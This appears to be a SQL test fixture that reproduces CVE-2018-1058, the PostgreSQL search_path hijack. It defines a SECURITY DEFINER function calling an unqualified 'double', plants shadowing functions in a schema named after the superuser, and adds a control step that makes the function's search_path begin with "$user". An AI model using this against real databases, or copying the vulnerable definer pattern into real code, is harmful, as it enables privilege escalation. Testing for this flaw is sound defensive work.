-- way: make a schema with the name of the superuser, which "$user" in the search_path of its SECURITY DEFINER function finds
-- source: CVE-2018-1058
-- control: the search_path of the superuser's function begins with "$user"
-- section: setup
CREATE FUNCTION public.twice(n int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ BEGIN RETURN double(n); END $$;
CREATE FUNCTION public.double(bigint) RETURNS bigint LANGUAGE sql AS 'SELECT 2 * $1';
-- section: application
CREATE SCHEMA postgres;
CREATE FUNCTION postgres.double(int) RETURNS int LANGUAGE plpgsql AS :'note';
CREATE FUNCTION shop.double(int) RETURNS int LANGUAGE plpgsql AS :'note';
CREATE FUNCTION pg_temp.double(int) RETURNS int LANGUAGE plpgsql AS :'note';
SET search_path = postgres, shop, pg_temp;
SELECT public.twice(2);
GRANT USAGE ON SCHEMA postgres TO PUBLIC;
-- section: control
ALTER FUNCTION public.twice(int) SET search_path = "$user", public;
